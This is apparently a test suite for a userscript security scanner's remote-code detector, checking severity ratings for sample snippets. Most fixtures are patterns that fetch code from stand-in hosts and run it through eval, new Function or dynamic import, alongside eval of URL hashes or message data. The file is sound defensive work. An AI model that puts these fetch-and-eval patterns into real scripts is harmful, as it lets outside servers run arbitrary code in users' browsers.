import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { findIn, userscript } from "../testing/find-in.ts";
import { remoteCode } from "./remote-code.ts";

describe("remote-code", () => {
	test.each([
		[
			"fetched text run by eval",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`fetch("https://c.stranger.test/x").then(r=>r.text()).then(t=>eval(t))`,
			),
		],
		[
			"fetched text run by Function",
			["critical 7"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`GM_xmlhttpRequest({url:"https://api.helper.example/x",onload:r=>new Function(r.responseText)()})`,
			),
		],
		[
			"a script element",
			["high 1"],
			`var s=document.createElement("script");s.src="https://c.stranger.test/x.js";document.body.appendChild(s)`,
		],
		[
			"a known library",
			["low 1"],
			`var s=document.createElement("script");s.src="https://cdn.jsdelivr.net/npm/dayjs@1.11.13/dayjs.min.js";document.body.appendChild(s)`,
		],
		[
			"a package of a public registry in its newest release",
			["low 1"],
			`var s=document.createElement("script");s.src="https://cdn.jsdelivr.net/npm/dayjs/dayjs.min.js";document.body.appendChild(s)`,
		],
		[
			"a file of a repository that can change",
			["medium 1"],
			`var s=document.createElement("script");s.src="https://cdn.jsdelivr.net/gh/ann/tools/a.js";document.body.appendChild(s)`,
		],
		[
			"a public library over http",
			["medium 1"],
			`var s=document.createElement("script");s.src="http://ajax.googleapis.com/ajax/libs/jquery/1.8.3/jquery.min.js";document.body.appendChild(s)`,
		],
		[
			"a server of somebody over http",
			["medium 1"],
			`var s=document.createElement("script");s.src="http://c.stranger.test/x.js";document.body.appendChild(s)`,
		],
		["an import", ["high 5"], userscript(["match https://shop.example/*"], `import("https://c.stranger.test/x.mjs")`)],
		[
			"the address bar as code",
			["medium 5"],
			userscript(["match https://shop.example/*"], `eval(decodeURIComponent(location.hash.slice(1)))`),
		],
		["messages as code", ["high 5"], userscript(["match https://shop.example/*"], `onmessage=e=>setTimeout(e.data,0)`)],
		[
			"a library in an exact version: told",
			["low 1"],
			`var s=document.createElement("script");s.src="https://cdn.jsdelivr.net/npm/dayjs@1.11.10/dayjs.min.js";document.body.appendChild(s)`,
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(remoteCode, code)).toEqual(expected);
	});

	test.each([
		[
			"a script of the site",
			userscript(
				["match https://shop.example/*"],
				`const s=document.createElement("script");s.src="/app.js";document.body.append(s)`,
			),
		],
		["code written in the script", userscript(["match https://shop.example/*"], `new Function("return 1+1")()`)],
		[
			"fetched data",
			userscript(
				["match https://shop.example/*"],
				`fetch("https://c.stranger.test/x.json").then(r=>r.json()).then(d=>{document.title=d.name})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(remoteCode, code)).toEqual([]);
	});

	test("each script in one text is reported", () => {
		const code = `document.write('<script src="https://a.test/1.js"></scr' + 'ipt><script src="https://a.test/2.js"></scr' + 'ipt>')`;
		expect(analyzeScript({ code }).vulnerabilities.filter(({ type }) => type === "remote-code")).toHaveLength(2);
	});

	test("a service worker of the site stays after the script", () => {
		expect(findIn(remoteCode, 'navigator.serviceWorker.register("/files/sw.js")')).toEqual(["medium 1"]);
	});

	test("the whole address of the page is no program", () => {
		expect(findIn(remoteCode, "eval(location.href)")).toEqual(["low 1"]);
		expect(findIn(remoteCode, "eval(location.hash.slice(1))")).toEqual(["medium 1"]);
	});

	const from = (...head: string[]) =>
		userscript(
			["match https://shop.example/*", ...head],
			`fetch("https://lib.author.test/a.js").then((r) => r.text()).then((text) => eval(text));`,
		);

	test.each([
		["medium", ["updateURL https://www.author.test/script.user.js"]],
		["medium", ["downloadURL https://lib.author.test/script.user.js"]],
		["critical", ["updateURL http://www.author.test/script.user.js"]],
		["critical", ["downloadURL https://github.com/ann/script/raw/main/a.user.js"]],
		["critical", ["homepage https://www.author.test/"]],
		["critical", []],
	])("is %s when the script says %j of whom its updates are from", (severity, head) => {
		expect(findIn(remoteCode, from(...head))).toEqual([`${severity} ${5 + head.length}`]);
	});

	test("does not take a place where anybody publishes for the owner of the updates", () => {
		const code = userscript(
			["match https://shop.example/*", "downloadURL https://ann.vercel.app/a.user.js"],
			`fetch("https://eve.vercel.app/a.js").then((r) => r.text()).then((text) => eval(text));`,
		);
		expect(findIn(remoteCode, code)).toEqual(["critical 6"]);
	});

	test("reads no code out of a resource that the script does not declare", () => {
		const code = (more: string[]) =>
			userscript(
				["match https://shop.example/*", "grant GM_getResourceText", ...more],
				`eval(GM_getResourceText("part"))`,
			);
		expect(findIn(remoteCode, code(["resource part https://c.stranger.test/part.js"]))).not.toEqual([]);
		expect(findIn(remoteCode, code([]))).toEqual([]);
	});
});
